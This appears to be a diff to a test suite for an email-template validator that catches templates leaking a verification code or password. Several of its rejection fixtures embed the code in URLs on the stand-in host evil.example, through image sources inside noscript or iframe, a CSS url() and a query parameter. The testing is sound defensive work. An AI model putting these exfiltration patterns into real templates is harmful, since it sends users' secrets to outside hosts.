@@ -110,7 +110,7 @@ describe('the HTML body', () => {
     ['<p>Code:<br>\n<%= code %><br>\nBye</p>'],
     ['<p>(&nbsp;<%= code %>&nbsp;)</p>'],
     ['<% if resetUrl %><a href="<%= resetUrl %>">Reset</a><% else %><p><%= code %></p><% end %>'],
-    ['<noscript><p>Code: <%= code %></p></noscript>'],
+    ['<p>Hello</p><noscript><p>Code: <%= code %></p></noscript>'],
     ['<p>Password: <%= password %></p><a href="<%= loginUrl %>">Log in</a>'],
     ['<p>https://shop.example/</p><p><%= code %></p>'],
     ['<table><tr><td>Code:</td><td><%= code %></td><td>.evil.example</td></tr></table>'],
@@ -146,6 +146,12 @@ describe('the HTML body', () => {
     ['<select name="c"><option><%= code %></option></select>', /inside <select>|drops it/],
     ['<svg><style>a{fill:url(//evil.example/<%= code %>)}</style></svg>', /inside <style>/],
     ['<p <%= code %>>x</p>', /inside an attribute name of <p>/],
+    // Mail clients run no scripts, so they render <noscript> content as markup.
+    [
+      '<p>Hi</p><noscript><img src="https://evil.example/ <%= code %>"></noscript>',
+      /src attribute/,
+    ],
+    ['<iframe><img src="https://evil.example/ <%= code %>"></iframe>', /inside <iframe>/],
     ['<p>x</p <%= code %>>', /drops it or moves it/],
     ['<p>https://evil.example/?c=<%= code %></p>', /glued to "=" before it/],
     ['<p>https://evil.example/?c=<b><%= code %></b></p>', /glued to "=" before it/],
